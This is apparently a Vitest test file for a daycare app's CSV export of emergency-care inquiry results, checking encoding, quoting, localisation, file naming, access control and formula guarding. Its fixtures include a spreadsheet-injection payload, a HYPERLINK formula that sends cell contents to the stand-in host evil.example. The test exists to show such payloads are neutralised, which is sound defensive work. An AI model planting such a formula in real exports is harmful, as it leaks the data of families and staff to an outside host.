import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testAppWith, type TestContext } from '../../../test/app.js';
import { NOW } from '../../../test/factories-events.js';
import { closeViaApi, futureEvent, record, resultsWorld, type ResultsWorld } from '../../../test/factories-results.js';
import { children, parents } from '../../db/schema.js';
import { guardCell, toCsv } from '../../lib/csv.js';
import { zonedDay } from '@kita/shared';
import { parseCsv } from '../../../test/csv.js';

const EVIL_CHILD = '=HYPERLINK("https://evil.example/?d="&A1;"Mia")';
const EVIL_PARENT = '+Anna "Mail", @home';

let t: TestContext;
let w: ResultsWorld;
let eventId: string;
beforeAll(async () => {
  ({ t, w } = await testAppWith(resultsWorld, { now: NOW }));
  // The names as a family could type them at registration, before the inquiry takes its snapshot.
  await t.db.update(children).set({ name: EVIL_CHILD }).where(eq(children.id, w.kids.mailKid.id));
  await t.db.update(parents).set({ name: EVIL_PARENT }).where(eq(parents.id, w.mail.parent.id));
  eventId = await futureEvent(t, w, 2);
  await record(t, w, eventId, [
    [w.kids.mailKid.id, 'red'],
    [w.kids.smsKid.id, 'yellow'],
  ]);
  await closeViaApi(t, w.headers.manager, eventId);
});
afterAll(() => t.close());

describe('GET emergency-event/{id}/csv', () => {
  it('is the report table as UTF-8 with BOM, RFC 4180, with formulas written as text', async () => {
    const res = await t.app.inject({ url: `/api/emergency-event/${eventId}/csv`, headers: { ...w.headers.manager, 'accept-language': 'de' } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const raw = res.rawPayload;
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = raw.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text, ';');
    expect(rows[0]).toEqual(['Gruppe', 'Kind', 'Elternteil', 'Guthaben', 'Antwort', 'Platz', 'Rang', 'Begründung']);
    // The same rows as the JSON report the PDF is drawn from.
    const report = (await t.app.inject({ url: `/api/emergency-event/${eventId}/report`, headers: { ...w.headers.manager, 'accept-language': 'de' } })).json().data;
    const reportRows = report.groups.flatMap((g: { rows: Array<{ childName: string; rank: number | null; reasonText: string | null }> }) => g.rows);
    expect(rows).toHaveLength(1 + reportRows.length);
    expect(rows.slice(1).map((r) => r[1])).toEqual(reportRows.map((r: { childName: string }) => guardCell(r.childName)));
    expect(rows.slice(1).map((r) => r[6])).toEqual(reportRows.map((r: { rank: number | null }) => (r.rank === null ? '' : String(r.rank))));
    expect(rows.slice(1).map((r) => r[7])).toEqual(reportRows.map((r: { reasonText: string | null }) => r.reasonText ?? ''));

    const mia = rows.find((r) => r[1]!.includes('HYPERLINK'))!;
    // A leading apostrophe: Excel and LibreOffice show the cell as text and run nothing.
    expect(mia[1]).toBe(`'${EVIL_CHILD}`);
    expect(mia[2]).toBe(`'${EVIL_PARENT}`);
    expect(mia[0]).toBe('Bären');
    expect(mia[4]).toBe('Rot');
    // No record starts a formula anywhere: every text cell that could is guarded.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('is named after the Kita and the first care day, in English with commas', async () => {
    const res = await t.app.inject({ url: `/api/emergency-event/${eventId}/csv`, headers: { ...w.headers.admin, 'accept-language': 'en' } });
    expect(res.statusCode).toBe(200);
    const report = (await t.app.inject({ url: `/api/emergency-event/${eventId}/report`, headers: w.headers.admin })).json().data;
    const day = zonedDay(new Date(report.event.eventDate), 'Europe/Berlin');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="Demand-inquiry-Kita-Sonnenschein-${day}.csv"; filename*=UTF-8''${encodeURIComponent(`Demand-inquiry-Kita-Sonnenschein-${day}.csv`)}`,
    );
    const rows = parseCsv(res.rawPayload.subarray(3).toString('utf8'), ',');
    expect(rows[0]).toEqual(['Group', 'Child', 'Parent', 'Credits', 'Preference', 'Slot', 'Rank', 'Reason']);
    expect(rows.find((r) => r[1]!.includes('HYPERLINK'))![1]).toBe(`'${EVIL_CHILD}`);
  });

  it('is refused outside the caller\'s Kita (404) and to parents (403)', async () => {
    expect((await t.app.inject({ url: `/api/emergency-event/${eventId}/csv`, headers: w.headers.otherManager })).statusCode).toBe(404);
    expect((await t.app.inject({ url: `/api/emergency-event/${eventId}/csv`, headers: w.headers.mail })).statusCode).toBe(403);
  });
});

describe('toCsv', () => {
  it('quotes separators, quotes and line breaks and guards every formula start', () => {
    const out = toCsv(['a', 'b'], [['x;y', 'say "hi"'], ['line\r\nbreak', null], ['-1+1', -2], ['\tTab', '@SUM(A1)'], ['\rcr', 'plain']], ';').toString('utf8');
    expect(out).toBe('\uFEFFa;b\r\n"x;y";"say ""hi"""\r\n"line\r\nbreak";\r\n\'-1+1;-2\r\n\'\tTab;\'@SUM(A1)\r\n"\'\rcr";plain\r\n');
  });
});
